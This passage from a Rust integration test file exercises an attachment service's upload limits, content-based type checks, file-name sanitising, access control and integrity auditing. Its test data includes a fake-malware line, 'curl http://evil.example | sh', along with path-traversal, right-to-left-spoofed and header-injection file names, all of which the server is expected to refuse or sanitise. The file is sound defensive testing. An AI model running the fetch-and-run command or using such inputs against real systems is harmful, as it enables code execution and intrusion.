//! Attachments (DESIGN.md §2 and §3): streamed uploads with a hard size limit, types by
//! content, content-addressed storage on disk or in an S3-compatible store, downloads only
//! for participants, integrity checks, deletion and reference counting. Every test runs on
//! SQLite and PostgreSQL, each with the local directory and with a real S3-compatible
//! server (moto, from the test virtualenv).

#[path = "../common/helpers.rs"]
mod helpers;
#[path = "../common/mail.rs"]
mod mail;
#[path = "../common/s3.rs"]
mod s3;

use std::io::{Read, Write};
use std::time::Duration;

use confide::domain::Role;
use helpers::{assert_problem, user, Backend, Cast, Session, TestApp};
use reqwest::StatusCode;
use serde_json::{json, Value};

const LIMIT: usize = 10 * 1024 * 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Store {
    Local,
    S3,
}

use s3::moto;

/// Runs an async test on SQLite and PostgreSQL, each with local and S3 storage.
macro_rules! on_all_stores {
    ($($name:ident),* $(,)?) => {$(
        mod $name {
            use super::*;

            async fn run(backend: Backend, store: Store) {
                if backend == Backend::Postgres && helpers::postgres_url().is_none() {
                    helpers::report_skip("CONFIDE_TEST_POSTGRES_URL (PostgreSQL)");
                    return;
                }
                if store == Store::S3 && moto().is_none() {
                    helpers::report_skip("moto, the S3-compatible server (CONFIDE_TEST_PYTHON)");
                    return;
                }
                super::$name(spawn(backend, store).await, store).await;
            }

            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite_local() { run(Backend::Sqlite, Store::Local).await }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite_s3() { run(Backend::Sqlite, Store::S3).await }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres_local() { run(Backend::Postgres, Store::Local).await }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres_s3() { run(Backend::Postgres, Store::S3).await }
        }
    )*};
}

async fn spawn(backend: Backend, store: Store) -> TestApp {
    let s3 = match store {
        Store::Local => None,
        Store::S3 => {
            let moto = moto().expect("moto");
            Some((moto.port, moto.bucket().await))
        }
    };
    TestApp::spawn_with(backend, move |c| {
        if let Some((port, bucket)) = s3 {
            c.storage.attachments = format!("s3://{bucket}/confide/attachments");
            c.storage.s3.endpoint = format!("http://127.0.0.1:{port}");
            c.storage.s3.allow_http = true;
            c.storage.s3.access_key_id = "test".into();
            c.storage.s3.secret_access_key = "test".into();
        }
    })
    .await
}

fn pdf(text: &str) -> Vec<u8> {
    format!("%PDF-1.4\n% {text}\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
        .into_bytes()
}

fn png() -> Vec<u8> {
    let mut b = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    b.extend_from_slice(&[
        0, 0, 0, 13, b'I', b'H', b'D', b'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0,
    ]);
    b
}

/// Uploads files (name, declared type, bytes) as multipart/form-data.
async fn upload(
    app: &TestApp,
    who: &Session,
    files: &[(&str, &str, Vec<u8>)],
) -> (StatusCode, Value) {
    let mut form = reqwest::multipart::Form::new();
    for (name, mime, bytes) in files {
        let part = reqwest::multipart::Part::bytes(bytes.clone())
            .file_name(name.to_string())
            .mime_str(mime)
            .unwrap();
        form = form.part("file", part);
    }
    let resp = app
        .client
        .post(app.url("/api/v1/attachments"))
        .bearer_auth(&who.token)
        .multipart(form)
        .send()
        .await
        .expect("upload");
    let status = resp.status();
    let text = resp.text().await.unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// Uploads one file that must be accepted; returns its attachment object.
async fn upload_one(app: &TestApp, who: &Session, name: &str, bytes: Vec<u8>) -> Value {
    let (status, body) = upload(app, who, &[(name, "application/octet-stream", bytes)]).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    body["attachments"][0].clone()
}

async fn download(app: &TestApp, who: &Session, id: &str) -> reqwest::Response {
    app.client
        .get(app.url(&format!("/api/v1/attachments/{id}")))
        .bearer_auth(&who.token)
        .send()
        .await
        .expect("download")
}

async fn count(app: &TestApp, sql: &str) -> i64 {
    let mut conn = app.state.store.read().await.unwrap();
    sqlx::query_scalar::<_, i64>(sql)
        .fetch_one(&mut *conn)
        .await
        .unwrap()
}

/// Nothing of an upload is left: no rows, no stored bytes, no temporary files.
async fn assert_nothing_stored(app: &TestApp) {
    assert_eq!(count(app, "SELECT COUNT(*) FROM attachments").await, 0);
    assert_eq!(count(app, "SELECT COUNT(*) FROM blobs").await, 0);
    let tmp = app.db.data_dir().join("tmp");
    let left: Vec<_> = std::fs::read_dir(&tmp)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(left.is_empty(), "temporary files left: {left:?}");
    if let Some(bucket) = app
        .state
        .config
        .storage
        .attachments
        .strip_prefix("s3://")
        .and_then(|rest| rest.split('/').next())
    {
        let listing = reqwest::get(format!(
            "http://127.0.0.1:{}/{bucket}",
            moto().unwrap().port
        ))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
        assert!(
            !listing.contains("<Key>"),
            "objects left in the bucket: {listing}"
        );
    }
    let stored = app.db.data_dir().join("attachments");
    if stored.exists() {
        let files = walk(&stored);
        assert!(files.is_empty(), "stored files left: {files:?}");
    }
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

/// Sends a thread carrying `ids` to `to`; returns the thread.
async fn send_with(app: &TestApp, who: &Session, to: &[String], ids: &[&str]) -> Value {
    let (status, thread) = app
        .post(
            "/api/v1/threads",
            who,
            json!({"to": to, "subject": "Results", "body": "Please see the attached files.", "attachment_ids": ids}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{thread}");
    thread
}

/// A raw HTTP/1.1 request over TCP, for bodies whose framing reqwest would not send.
/// Returns the status code the server answered with (reading at most the head).
fn raw_request(app: &TestApp, head: &str, body_parts: &[&[u8]], then_close: bool) -> Option<u16> {
    let addr = app.base.trim_start_matches("http://").to_string();
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    stream.write_all(head.as_bytes()).unwrap();
    for part in body_parts {
        // The server may answer (and stop reading) before everything is sent.
        if stream.write_all(part).is_err() {
            break;
        }
    }
    if then_close {
        let _ = stream.shutdown(std::net::Shutdown::Write);
    }
    let mut buf = [0u8; 512];
    let mut got = Vec::new();
    loop {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => {
                got.extend_from_slice(&buf[..n]);
                if got.windows(4).any(|w| w == b"\r\n\r\n") {
                    break;
                }
            }
        }
    }
    let text = String::from_utf8_lossy(&got);
    text.split_whitespace().nth(1).and_then(|s| s.parse().ok())
}

fn multipart_parts(boundary: &str, name: &str, content: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let head = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         Content-Type: text/plain\r\n\r\n"
    );
    let mut first = head.into_bytes();
    first.extend_from_slice(content);
    let tail = format!("\r\n--{boundary}--\r\n").into_bytes();
    (first, tail)
}

on_all_stores!(
    the_size_limit_is_exactly_10_mib,
    the_size_limit_holds_without_content_length,
    the_size_limit_holds_with_a_false_content_length,
    one_refused_file_among_good_ones_keeps_nothing,
    types_are_decided_by_content_not_by_name,
    hostile_file_names_are_made_harmless,
    downloads_only_for_participants_and_the_uploader,
    a_corrupted_stored_file_is_refused_and_audited,
    identical_files_are_stored_once_and_removed_with_their_last_message,
    sent_attachments_cannot_be_deleted_but_pending_ones_can,
    unused_uploads_are_removed_after_a_day,
    thread_lists_and_views_show_attachments,
    drafts_hold_attachments_until_sent,
    an_interrupted_upload_leaves_nothing,
    stored_bytes_are_sealed_per_practice_and_checked_chunk_by_chunk,
    a_file_part_without_a_file_name_is_refused,
);

async fn the_size_limit_is_exactly_10_mib(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let exact = vec![b'a'; LIMIT];
    let got = upload_one(&app, &c.provider, "exact.txt", exact).await;
    assert_eq!(got["size"], LIMIT as i64);
    assert_eq!(got["content_type"], "text/plain; charset=utf-8");
    let sha = got["sha256"].as_str().unwrap().to_string();
    let address = app.blob_address(&c.practice, &sha).await;
    assert!(app.state.blobs.exists(&address).await.unwrap());

    let too_big = vec![b'b'; LIMIT + 1];
    let refused = upload(&app, &c.provider, &[("big.txt", "text/plain", too_big)]).await;
    assert_problem(
        &refused,
        StatusCode::PAYLOAD_TOO_LARGE,
        "attachment_too_large",
    );
    assert_eq!(refused.1["field"], "file");
    assert!(
        refused.1["detail"].as_str().unwrap().contains("big.txt"),
        "{}",
        refused.1
    );
    // Only the first upload exists.
    assert_eq!(count(&app, "SELECT COUNT(*) FROM attachments").await, 1);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM blobs").await, 1);
}

async fn the_size_limit_holds_without_content_length(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    for (size, expected) in [
        (LIMIT + 1, StatusCode::PAYLOAD_TOO_LARGE),
        (LIMIT, StatusCode::CREATED),
    ] {
        let boundary = "confide-test-boundary";
        let (first, tail) = multipart_parts(boundary, "chunked.txt", &vec![b'c'; size]);
        // A streamed body goes out chunked: no Content-Length at all.
        let chunks: Vec<Result<Vec<u8>, std::io::Error>> = first
            .chunks(64 * 1024)
            .map(|c| Ok(c.to_vec()))
            .chain(std::iter::once(Ok(tail)))
            .collect();
        let resp = app
            .client
            .post(app.url("/api/v1/attachments"))
            .bearer_auth(&c.provider.token)
            .header(
                "content-type",
                format!("multipart/form-data; boundary={boundary}"),
            )
            .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
                chunks,
            )))
            .send()
            .await
            .expect("chunked upload");
        let status = resp.status();
        let body: Value = resp.json().await.unwrap();
        assert_eq!(status, expected, "{body}");
        if status == StatusCode::PAYLOAD_TOO_LARGE {
            assert_eq!(body["code"], "attachment_too_large");
            assert_nothing_stored(&app).await;
        }
    }
}

async fn the_size_limit_holds_with_a_false_content_length(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let boundary = "confide-test-boundary";
    let (first, tail) = multipart_parts(boundary, "liar.txt", &vec![b'l'; LIMIT + 1]);
    let head = |length: usize| {
        format!(
            "POST /api/v1/attachments HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\
             Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {length}\r\n\
             Connection: close\r\n\r\n",
            c.provider.token
        )
    };
    // Claims far more than it sends: the server counts bytes and stops at the limit.
    let app2 = &app;
    let status = tokio::task::block_in_place(|| {
        raw_request(
            app2,
            &head(first.len() + tail.len() + 5_000_000),
            &[&first, &tail],
            false,
        )
    });
    assert_eq!(status, Some(413));
    assert_nothing_stored(&app).await;

    // Claims a small body and sends a big one: only the claimed bytes are read, and the
    // upload they make up is incomplete.
    let status =
        tokio::task::block_in_place(|| raw_request(app2, &head(4096), &[&first, &tail], false));
    assert_eq!(status, Some(400));
    assert_nothing_stored(&app).await;
}

/// A "file" part without a filename is a form value, not a file: refused, naming `file`,
/// and nothing kept (also when a good file came before it).
async fn a_file_part_without_a_file_name_is_refused(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let form = reqwest::multipart::Form::new()
        .part(
            "file",
            reqwest::multipart::Part::bytes(pdf("first"))
                .file_name("first.pdf")
                .mime_str("application/pdf")
                .unwrap(),
        )
        .part("file", reqwest::multipart::Part::text("{}"));
    let resp = app
        .client
        .post(app.url("/api/v1/attachments"))
        .bearer_auth(&c.provider.token)
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = resp.status();
    let body: Value = resp.json().await.unwrap();
    assert_problem(
        &(status, body.clone()),
        StatusCode::BAD_REQUEST,
        "invalid_field",
    );
    assert_eq!(body["field"], "file", "{body}");
    assert_nothing_stored(&app).await;
}

async fn one_refused_file_among_good_ones_keeps_nothing(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let refused = upload(
        &app,
        &c.provider,
        &[
            ("a.pdf", "application/pdf", pdf("first")),
            (
                "tool.exe",
                "application/octet-stream",
                b"MZ\x90\x00\x03\x00\x00\x00\x04\x00".to_vec(),
            ),
            ("c.png", "image/png", png()),
        ],
    )
    .await;
    assert_problem(
        &refused,
        StatusCode::BAD_REQUEST,
        "attachment_type_not_allowed",
    );
    assert_eq!(refused.1["field"], "file");
    assert!(
        refused.1["detail"].as_str().unwrap().contains("file 2"),
        "{}",
        refused.1
    );
    assert_nothing_stored(&app).await;

    let too_big = upload(
        &app,
        &c.provider,
        &[
            ("a.pdf", "application/pdf", pdf("first")),
            ("big.txt", "text/plain", vec![b'x'; LIMIT + 1]),
        ],
    )
    .await;
    assert_problem(
        &too_big,
        StatusCode::PAYLOAD_TOO_LARGE,
        "attachment_too_large",
    );
    assert_nothing_stored(&app).await;

    // One file more than `limits.attachments_per_upload` (20): none is kept.
    let many: Vec<(&str, &str, Vec<u8>)> = (0..21)
        .map(|_| ("n.txt", "text/plain", b"note".to_vec()))
        .collect();
    let too_many = upload(&app, &c.provider, &many).await;
    assert_problem(&too_many, StatusCode::BAD_REQUEST, "too_many_files");
    assert_eq!(too_many.1["field"], "file");
    assert_nothing_stored(&app).await;

    let (status, ok) = upload(
        &app,
        &c.provider,
        &[
            ("a.pdf", "application/pdf", pdf("first")),
            ("c.png", "image/png", png()),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{ok}");
    assert_eq!(ok["attachments"].as_array().unwrap().len(), 2);
}

async fn types_are_decided_by_content_not_by_name(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let disguised = [
        // Windows and Linux programs named and declared as PDFs.
        (
            "invoice.pdf",
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec(),
        ),
        (
            "invoice.pdf",
            b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00".to_vec(),
        ),
        // A script is text, but not the PDF its name claims.
        (
            "invoice.pdf",
            b"#!/bin/sh\ncurl http://evil.example | sh\n".to_vec(),
        ),
        // A PNG named as a PDF: the name and the content disagree.
        ("scan.pdf", png()),
        // An HTML page is text with markup; named .html it is no kind on the list.
        (
            "page.html",
            b"<html><script>alert(1)</script></html>\0".to_vec(),
        ),
        // A ZIP archive that is not a Word document.
        (
            "letter.docx",
            b"PK\x03\x04\x14\x00\x00\x00\x08\x00evil/payload.exe".to_vec(),
        ),
    ];
    for (name, bytes) in disguised {
        let refused = upload(&app, &c.provider, &[(name, "application/pdf", bytes)]).await;
        assert_problem(
            &refused,
            StatusCode::BAD_REQUEST,
            "attachment_type_not_allowed",
        );
    }
    let empty = upload(
        &app,
        &c.provider,
        &[("empty.txt", "text/plain", Vec::new())],
    )
    .await;
    assert_problem(&empty, StatusCode::BAD_REQUEST, "attachment_empty");
    assert_nothing_stored(&app).await;

    // A real PDF declared as an image is still a PDF, and is served as one.
    let got = upload(
        &app,
        &c.provider,
        &[("report.pdf", "image/png", pdf("real"))],
    )
    .await;
    assert_eq!(got.0, StatusCode::CREATED, "{}", got.1);
    assert_eq!(got.1["attachments"][0]["content_type"], "application/pdf");
    // A file with no extension gets its real kind's.
    let named = upload_one(&app, &c.provider, "scan", png()).await;
    assert_eq!(named["content_type"], "image/png");
    assert_eq!(named["name"], "scan.png");
    let csv = upload_one(&app, &c.provider, "table.csv", b"a,b\n1,2\n".to_vec()).await;
    assert_eq!(csv["content_type"], "text/csv; charset=utf-8");
}

async fn hostile_file_names_are_made_harmless(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let long = format!("{}.pdf", "x".repeat(1000));
    let cases: Vec<(String, &str)> = vec![
        (
            "../../../../etc/passwd.pdf".into(),
            "_.._.._.._etc_passwd.pdf",
        ),
        ("invoice\u{202E}fdp.exe".into(), "invoicefdp.exe.pdf"),
        ("\u{200F}\u{2066}hidden\u{2069}.pdf".into(), "hidden.pdf"),
        (".htaccess".into(), "htaccess.pdf"),
    ];
    for (raw, expected) in &cases {
        let got = upload_one(&app, &c.provider, raw, pdf("name test")).await;
        assert_eq!(got["name"], *expected, "for {raw:?}");
    }
    // Line breaks and NUL cannot even be carried in a part's header: a clear refusal.
    // Nor can other control characters (the unit tests of clean_name cover them anyway).
    for raw in ["a\r\nX-Evil: 1\0.pdf", "bad\u{7}name\u{1b}[31m.pdf"] {
        let refused = upload(&app, &c.provider, &[(raw, "application/pdf", pdf("nl"))]).await;
        assert_problem(&refused, StatusCode::BAD_REQUEST, "invalid_multipart");
    }
    // Backslashes (which the multipart encoding may escape) never survive either.
    let got = upload_one(
        &app,
        &c.provider,
        "..\\..\\windows\\system32.pdf",
        pdf("bs"),
    )
    .await;
    let name = got["name"].as_str().unwrap();
    assert!(
        !name.contains('\\') && !name.contains('/') && !name.starts_with('.'),
        "{name}"
    );
    assert!(name.ends_with("system32.pdf"), "{name}");
    let got = upload_one(&app, &c.provider, &long, pdf("long")).await;
    let name = got["name"].as_str().unwrap();
    assert_eq!(name.chars().count(), 200);
    assert!(name.ends_with(".pdf"));

    // Nothing was written anywhere but under a hash.
    for dir in [app.db.data_dir().to_path_buf()] {
        for path in walk(&dir) {
            let file = path.file_name().unwrap().to_string_lossy().to_string();
            assert!(
                !file.contains("passwd") && !file.contains("system32"),
                "{path:?}"
            );
        }
    }
    // The download names the file safely.
    let thread = send_with(
        &app,
        &c.provider,
        &[user(&c.client)],
        &[got["id"].as_str().unwrap()],
    )
    .await;
    assert_eq!(thread["messages"][0]["attachments"][0]["name"], name);
    let resp = download(&app, &c.client, got["id"].as_str().unwrap()).await;
    assert_eq!(resp.status(), StatusCode::OK);
    let disposition = resp.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        disposition.starts_with("attachment; filename=\""),
        "{disposition}"
    );
    assert!(!disposition.contains('\r') && !disposition.contains('\n'));
    let rtl = upload_one(
        &app,
        &c.provider,
        "r\u{e9}sum\u{e9} \"q\".pdf",
        pdf("quote"),
    )
    .await;
    let disposition = rtl_disposition(&app, &c.provider, rtl["id"].as_str().unwrap()).await;
    assert_eq!(
        disposition,
        "attachment; filename=\"r_sum_ _q_.pdf\"; filename*=UTF-8''r%C3%A9sum%C3%A9%20_q_.pdf"
    );
}

async fn rtl_disposition(app: &TestApp, who: &Session, id: &str) -> String {
    let resp = download(app, who, id).await;
    assert_eq!(resp.status(), StatusCode::OK);
    resp.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_string()
}

async fn downloads_only_for_participants_and_the_uploader(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let bytes = pdf("lab results");
    let file = upload_one(&app, &c.provider, "labs.pdf", bytes.clone()).await;
    let id = file["id"].as_str().unwrap().to_string();

    // While pending: the uploader only.
    assert_eq!(
        download(&app, &c.provider, &id).await.status(),
        StatusCode::OK
    );
    for who in [&c.client, &c.admin, &c.biller] {
        let resp = download(&app, who, &id).await;
        assert_eq!(resp.status(), StatusCode::NOT_FOUND);
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body["code"], "not_found");
    }
    // Another practice's people cannot use it either.
    let other = app.create_practice("elm").await;
    let stranger = app.person(&other, Role::Provider, "Sam Stranger").await;
    let their_client = app.person(&other, Role::Client, "Tia Client").await;
    let (status, used) = app
        .post(
            "/api/v1/threads",
            &stranger,
            json!({"to": [user(&their_client)], "subject": "x", "body": "Trying someone else's file.", "attachment_ids": [id]}),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{used}");
    assert_eq!(used["code"], "attachment_not_found", "{used}");

    send_with(&app, &c.provider, &[user(&c.client)], &[&id]).await;
    let resp = download(&app, &c.client, &id).await;
    assert_eq!(resp.status(), StatusCode::OK);
    let h = resp.headers().clone();
    assert_eq!(h["content-type"], "application/pdf");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(h["content-security-policy"], "sandbox");
    assert_eq!(h["cache-control"], "no-store");
    assert_eq!(
        h["content-disposition"],
        "attachment; filename=\"labs.pdf\"; filename*=UTF-8''labs.pdf"
    );
    assert_eq!(resp.bytes().await.unwrap().to_vec(), bytes);

    // Not participants: another client, the admin, a biller, another practice.
    for who in [&c.other_client, &c.admin, &c.biller, &stranger] {
        let resp = download(&app, who, &id).await;
        assert_eq!(resp.status(), StatusCode::NOT_FOUND);
        let (status, _) = app
            .get(&format!("/api/v1/attachments/{id}/info"), who)
            .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }
    let resp = download(&app, &c.client, "no-such-attachment").await;
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);

    // Every download is audited, with ids only.
    let downloads = count(
        &app,
        "SELECT COUNT(*) FROM audit_events WHERE action = 'download_attachment' AND outcome = 'success'",
    )
    .await;
    assert_eq!(downloads, 2);
    let leaked = count(
        &app,
        "SELECT COUNT(*) FROM audit_events WHERE object_id LIKE '%labs%'",
    )
    .await;
    assert_eq!(leaked, 0);
}

async fn a_corrupted_stored_file_is_refused_and_audited(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let file = upload_one(&app, &c.provider, "labs.pdf", pdf("intact")).await;
    let id = file["id"].as_str().unwrap();
    let sha = file["sha256"].as_str().unwrap();
    send_with(&app, &c.provider, &[user(&c.client)], &[id]).await;
    assert_eq!(download(&app, &c.client, id).await.status(), StatusCode::OK);

    let mut damaged = pdf("intact");
    damaged[12] ^= 0x20;
    let address = app.blob_address(&c.practice, sha).await;
    app.state
        .blobs
        .overwrite_raw(&address, damaged)
        .await
        .unwrap();
    let resp = download(&app, &c.client, id).await;
    assert_eq!(resp.status(), StatusCode::INTERNAL_SERVER_ERROR);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["code"], "attachment_corrupted");
    assert!(!body.to_string().contains("intact"));
    let audited = count(
        &app,
        "SELECT COUNT(*) FROM audit_events WHERE action = 'download_attachment' AND outcome = 'integrity_failure'",
    )
    .await;
    assert_eq!(audited, 1);

    // Missing bytes are refused the same way.
    app.state.blobs.delete(&address).await.unwrap();
    let resp = download(&app, &c.client, id).await;
    assert_eq!(resp.status(), StatusCode::INTERNAL_SERVER_ERROR);

    // Uploading the same content again stores good bytes again.
    upload_one(&app, &c.provider, "again.pdf", pdf("intact")).await;
    assert_eq!(download(&app, &c.client, id).await.status(), StatusCode::OK);
}

async fn identical_files_are_stored_once_and_removed_with_their_last_message(
    app: TestApp,
    store: Store,
) {
    let c = Cast::new(&app).await;
    let bytes = pdf("the same letter");
    let first = upload_one(&app, &c.provider, "one.pdf", bytes.clone()).await;
    let second = upload_one(&app, &c.biller, "two.pdf", bytes.clone()).await;
    let sha = first["sha256"].as_str().unwrap().to_string();
    assert_eq!(second["sha256"], sha);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM blobs").await, 1);
    if store == Store::Local {
        assert_eq!(walk(&app.db.data_dir().join("attachments")).len(), 1);
    }

    let t1 = send_with(
        &app,
        &c.provider,
        &[user(&c.client)],
        &[first["id"].as_str().unwrap()],
    )
    .await;
    let t2 = send_with(
        &app,
        &c.biller,
        &[user(&c.client)],
        &[second["id"].as_str().unwrap()],
    )
    .await;

    // Deleting one message keeps the bytes the other still needs.
    let m1 = t1["messages"][0]["id"].as_str().unwrap();
    let (status, _) = app
        .delete(&format!("/api/v1/messages/{m1}"), &c.provider)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert_eq!(
        download(&app, &c.client, first["id"].as_str().unwrap())
            .await
            .status(),
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        download(&app, &c.client, second["id"].as_str().unwrap())
            .await
            .status(),
        StatusCode::OK
    );
    let address = app.blob_address(&c.practice, &sha).await;
    assert!(app.state.blobs.exists(&address).await.unwrap());

    // Deleting the last thread that references them removes them.
    let t2_id = t2["id"].as_str().unwrap();
    let (status, _) = app
        .delete(&format!("/api/v1/threads/{t2_id}"), &c.biller)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert!(!app.state.blobs.exists(&address).await.unwrap());
    assert_nothing_stored(&app).await;
}

async fn sent_attachments_cannot_be_deleted_but_pending_ones_can(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let pending = upload_one(&app, &c.provider, "draft.pdf", pdf("pending")).await;
    let sent = upload_one(&app, &c.provider, "sent.pdf", pdf("sent")).await;
    let sent_id = sent["id"].as_str().unwrap();
    send_with(&app, &c.provider, &[user(&c.client)], &[sent_id]).await;

    let refused = app
        .delete(&format!("/api/v1/attachments/{sent_id}"), &c.provider)
        .await;
    assert_problem(&refused, StatusCode::CONFLICT, "attachment_sent");
    let refused = app
        .delete(&format!("/api/v1/attachments/{sent_id}"), &c.client)
        .await;
    assert_problem(&refused, StatusCode::CONFLICT, "attachment_sent");
    let refused = app
        .delete(&format!("/api/v1/attachments/{sent_id}"), &c.admin)
        .await;
    assert_problem(&refused, StatusCode::NOT_FOUND, "not_found");
    assert_eq!(
        download(&app, &c.client, sent_id).await.status(),
        StatusCode::OK
    );

    let pending_id = pending["id"].as_str().unwrap();
    let refused = app
        .delete(&format!("/api/v1/attachments/{pending_id}"), &c.biller)
        .await;
    assert_problem(&refused, StatusCode::NOT_FOUND, "not_found");
    let (status, _) = app
        .delete(&format!("/api/v1/attachments/{pending_id}"), &c.provider)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let address = app
        .blob_address(&c.practice, pending["sha256"].as_str().unwrap())
        .await;
    assert!(!app.state.blobs.exists(&address).await.unwrap());
    assert_eq!(
        download(&app, &c.provider, pending_id).await.status(),
        StatusCode::NOT_FOUND
    );
    // A used attachment cannot be used again.
    let (status, body) = app
        .post(
            "/api/v1/threads",
            &c.provider,
            json!({"to": [user(&c.client)], "subject": "Again", "body": "The same file once more.", "attachment_ids": [sent_id]}),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["code"], "attachment_not_found");
    assert_eq!(body["field"], "attachment_ids[0]");
}

async fn unused_uploads_are_removed_after_a_day(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let unused = upload_one(&app, &c.provider, "unused.pdf", pdf("unused")).await;
    let held = upload_one(&app, &c.provider, "held.pdf", pdf("held")).await;
    let (status, draft) = app
        .post(
            "/api/v1/drafts",
            &c.provider,
            json!({"to": [user(&c.client)], "subject": "Later", "body": "Draft text.", "attachment_ids": [held["id"]]}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{draft}");

    app.clock.advance_minutes(23 * 60);
    confide::service::attachments::sweep(&app.state)
        .await
        .unwrap();
    // (Sessions end after 30 idle minutes: sign in again.)
    let provider = app.login_as("oak", &c.provider.email).await;
    assert_eq!(
        download(&app, &provider, unused["id"].as_str().unwrap())
            .await
            .status(),
        StatusCode::OK
    );

    app.clock.advance_minutes(2 * 60);
    let removed = confide::service::attachments::sweep(&app.state)
        .await
        .unwrap();
    assert_eq!(removed, 1);
    let c = Cast {
        provider: app.login_as("oak", &c.provider.email).await,
        ..c
    };
    assert_eq!(
        download(&app, &c.provider, unused["id"].as_str().unwrap())
            .await
            .status(),
        StatusCode::NOT_FOUND
    );
    let address = app
        .blob_address(&c.practice, unused["sha256"].as_str().unwrap())
        .await;
    assert!(!app.state.blobs.exists(&address).await.unwrap());
    // The draft's upload stays.
    assert_eq!(
        download(&app, &c.provider, held["id"].as_str().unwrap())
            .await
            .status(),
        StatusCode::OK
    );
}

async fn thread_lists_and_views_show_attachments(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let a = upload_one(&app, &c.provider, "a.pdf", pdf("a")).await;
    let b = upload_one(&app, &c.provider, "b.png", png()).await;
    let with = send_with(
        &app,
        &c.provider,
        &[user(&c.client)],
        &[a["id"].as_str().unwrap(), b["id"].as_str().unwrap()],
    )
    .await;
    let without = app.send(&c.provider, &[&user(&c.client)], "Plain").await;

    let (status, page) = app.get("/api/v1/threads?folder=inbox", &c.client).await;
    assert_eq!(status, StatusCode::OK);
    let find = |id: &str| {
        page["threads"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["id"] == id)
            .cloned()
            .unwrap()
    };
    assert_eq!(find(with["id"].as_str().unwrap())["has_attachments"], true);
    assert_eq!(find(with["id"].as_str().unwrap())["attachment_count"], 2);
    assert_eq!(find(&without)["has_attachments"], false);

    let (status, view) = app
        .get(
            &format!("/api/v1/threads/{}", with["id"].as_str().unwrap()),
            &c.client,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let files = view["messages"][0]["attachments"].as_array().unwrap();
    assert_eq!(files.len(), 2);
    assert_eq!(files[0]["id"], a["id"]);
    assert_eq!(files[0]["name"], "a.pdf");
    assert_eq!(files[0]["size"], pdf("a").len() as i64);
    assert_eq!(files[0]["content_type"], "application/pdf");
    assert_eq!(files[1]["content_type"], "image/png");

    // A reply can carry attachments too, and someone else's pending upload is unknown.
    let thread_id = with["id"].as_str().unwrap();
    let mine = upload_one(
        &app,
        &c.client,
        "reply.txt",
        b"My answer, as a file.\n".to_vec(),
    )
    .await;
    let theirs = upload_one(
        &app,
        &c.provider,
        "theirs.txt",
        b"Not the client's.\n".to_vec(),
    )
    .await;
    let (status, body) = app
        .reply(
            &c.client,
            thread_id,
            json!({"body": "Here is my reply.", "attachment_ids": [mine["id"], theirs["id"]]}),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["code"], "attachment_not_found");
    assert_eq!(body["field"], "attachment_ids[1]");
    let (status, body) = app
        .reply(
            &c.client,
            thread_id,
